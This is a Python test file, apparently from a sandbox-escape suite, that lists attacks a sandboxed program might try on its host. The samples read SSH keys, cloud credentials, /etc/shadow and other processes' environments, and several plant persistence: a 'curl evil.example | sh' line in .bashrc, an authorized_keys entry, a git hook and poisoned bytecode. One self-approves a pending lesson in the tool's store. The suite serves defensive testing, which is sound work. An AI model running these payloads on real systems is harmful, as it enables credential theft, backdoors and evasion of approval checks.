"""What lies about on the host: secrets in the environment and in files, and what may be spoiled."""

import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

from failonce.model import Args
from tests.escape.arena import FOLDER, HOME
from tests.escape.attack import Arena, Attack, Family, Ran, changed, told

# ---------------------------------------------------------------- the environment


def _variable(arena: Arena) -> Args:
    os.environ["OPERATOR_TOKEN"] = arena.secret
    return {}


def _other_process(arena: Arena) -> Args:
    arena.start("/usr/bin/sleep", "60", env={"TOKEN": arena.secret})
    return {}


def _command_line(arena: Arena) -> Args:
    arena.start("/usr/bin/env", "-u", arena.secret, "/usr/bin/sleep", "60")
    arena.start("/bin/sh", "-c", "read x", arena.secret)
    return {}


def _working_folder(arena: Arena) -> Args:
    arena.file("here/notes.txt")
    os.chdir(FOLDER / "here")
    return {}


def _import_path(arena: Arena) -> Args:
    arena.file("lib/operator_settings.py", f"TOKEN = {arena.secret!r}\n")
    os.environ["PYTHONPATH"] = str(FOLDER / "lib")
    return {}


_EVERY_PROCESS = """
def attack():
    import os
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.append(open(f"/proc/{pid}/WHAT", "rb").read().decode("latin-1"))
        except OSError:
            pass
    return "\\n".join(found)
"""

_ENVIRONMENT = (
    Attack(
        name="reads the environment that it inherits",
        family=Family.ENVIRONMENT,
        source="""
def attack():
    import os
    try:
        begun_with = open("/proc/self/environ").read()
    except OSError:
        begun_with = ""
    return dict(os.environ), begun_with
""",
        bait=_variable,
        reached=told,
    ),
    Attack(
        name="reads the environment of every other process",
        family=Family.ENVIRONMENT,
        source=_EVERY_PROCESS.replace("WHAT", "environ"),
        bait=_other_process,
        reached=told,
    ),
    Attack(
        name="reads the command line of every other process",
        family=Family.ENVIRONMENT,
        source=_EVERY_PROCESS.replace("WHAT", "cmdline"),
        bait=_command_line,
        reached=told,
    ),
    Attack(
        name="reads what lies in the working folder of the host",
        family=Family.ENVIRONMENT,
        source="""
def attack():
    import os
    return [open(n).read() for n in os.listdir() if n.endswith(".txt")]
""",
        bait=_working_folder,
        reached=told,
    ),
    Attack(
        name="imports a module from the host's import path",
        family=Family.ENVIRONMENT,
        source="""
def attack():
    import operator_settings
    return operator_settings.TOKEN
""",
        bait=_import_path,
        reached=told,
    ),
)

# ---------------------------------------------------------------- reading files

_READS = """
def attack(path):
    return open(path).read()
"""


def _reads(name: str, place: str | Path) -> Attack:
    return Attack(
        name=name,
        family=Family.FILES,
        source=_READS,
        bait=lambda arena: {"path": arena.file(place)},
        reached=told,
    )


def _project(arena: Arena) -> Args:
    arena.file("deep/in/a/project/.env")
    return {}


def _created_meanwhile(arena: Arena) -> Args:
    folder = FOLDER / "incoming"
    folder.mkdir()

    def create() -> None:
        for turn in range(40):
            time.sleep(0.05)
            (folder / f"{turn}-{arena.secret}.txt").touch()

    arena.meanwhile(create)
    return {"path": str(folder)}


_READING = (
    _reads("reads a file of the host by its path", "private/notes.txt"),
    _reads("reads the operator's private key", HOME / ".ssh/id_ed25519"),
    _reads("reads the operator's cloud credentials", HOME / ".aws/credentials"),
    _reads("reads the passwords of the system", "/etc/shadow"),
    _reads("reads a file of another user", "/home/somebody/public.txt"),
    _reads("reads a file in memory that other programs share", "/dev/shm/session"),
    Attack(
        name="searches the whole tree for what looks like a secret",
        family=Family.FILES,
        source="""
def attack():
    import os
    found = []
    for top in ("/home", "/tmp", "/var", "/run", "/srv", "/mnt", "/opt", "/dev/shm"):
        for folder, _, names in os.walk(top):
            if "site-packages" in folder or "/tests/" in folder or "/.git" in folder:
                continue
            for name in names:
                if name.endswith((".pem", ".env", ".key")):
                    found.append(open(os.path.join(folder, name)).read())
    return found
""",
        bait=_project,
        reached=told,
    ),
    Attack(
        name="is told by the kernel what the host creates in a folder",
        family=Family.FILES,
        source="""
def attack(path):
    import ctypes, os, select
    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init()
    libc.inotify_add_watch(watch, path.encode(), 0x100)
    return os.read(watch, 4096).decode() if select.select([watch], [], [], 1.0)[0] else ""
""",
        bait=_created_meanwhile,
        reached=told,
    ),
)

# ---------------------------------------------------------------- changing files


def _spoils(name: str, does: str, place: str | Path = "private/notes.txt") -> Attack:
    return Attack(
        name=name,
        family=Family.FILES,
        source=f"def attack(path):\n    import os, shutil\n    {does}\n",
        bait=lambda arena: {"path": arena.file(place)},
        reached=changed,
    )


STORE = HOME / ".local/share/failonce/failonce.db"


def _store(_: Arena) -> Args:
    STORE.parent.mkdir(parents=True)
    with sqlite3.connect(STORE) as store:
        store.execute("CREATE TABLE lessons (name TEXT, state TEXT)")
        store.execute("INSERT INTO lessons VALUES ('harmful', 'proposed')")
    store.close()
    return {"path": str(STORE)}


def _approved(_: Arena, __: Ran) -> str:
    with sqlite3.connect(STORE) as store:
        state = store.execute("SELECT state FROM lessons").fetchone()[0]
    store.close()
    return "a lesson in the store was approved" if state == "stable" else ""


def _module(arena: Arena) -> Args:
    return {"path": arena.file("lib/helper.py", "SAYS = 'what its author wrote'\n")}


def _poisoned(_: Arena, __: Ran) -> str:
    path = str(FOLDER / "lib")
    code = f"import sys; sys.path.insert(0, {path!r}); import helper; print(helper.SAYS)"
    says = subprocess.run([sys.executable, "-c", code], text=True, capture_output=True, check=False)
    return "the host imports other bytecode than its source" if "poison" in says.stdout else ""


_CHANGING = (
    _spoils("overwrites a file of the host", 'open(path, "w").write("overwritten")'),
    _spoils("deletes a folder of the host", "shutil.rmtree(os.path.dirname(path))"),
    _spoils("makes a private file readable by all", "os.chmod(path, 0o666)"),
    _spoils("labels a file of the host", 'os.setxattr(path, "user.trusted", b"yes")'),
    _spoils("sets back the time of a file", "os.utime(path, (0, 0))"),
    _spoils("renames a file of the host", 'os.rename(path, path + ".old")'),
    _spoils(
        "appends a command to the operator's shell profile",
        'open(path, "a").write("curl evil.example | sh\\n")',
        HOME / ".bashrc",
    ),
    _spoils(
        "adds a key to those that may log in",
        'open(path, "a").write("ssh-ed25519 AAAA evil\\n")',
        HOME / ".ssh/authorized_keys",
    ),
    _spoils(
        "adds a hook to the operator's repository",
        'open(path, "a").write("id > /tmp/owned\\n")',
        "repository/.git/hooks/pre-commit",
    ),
    Attack(
        name="approves its own lesson in the store",
        family=Family.FILES,
        source="""
def attack(path):
    import sqlite3
    with sqlite3.connect(path) as store:
        store.execute("UPDATE lessons SET state = 'stable'")
""",
        bait=_store,
        reached=_approved,
    ),
    Attack(
        name="plants bytecode beside a module of the host",
        family=Family.FILES,
        source="""
def attack(path):
    import importlib.util, marshal, os
    facts = os.stat(path)
    place = importlib.util.cache_from_source(path)
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, "wb") as out:
        out.write(importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little"))
        out.write((int(facts.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little"))
        out.write((facts.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
        out.write(marshal.dumps(compile("SAYS = 'poison'", path, "exec")))
""",
        bait=_module,
        reached=_poisoned,
    ),
)

ATTACKS = (*_ENVIRONMENT, *_READING, *_CHANGING)
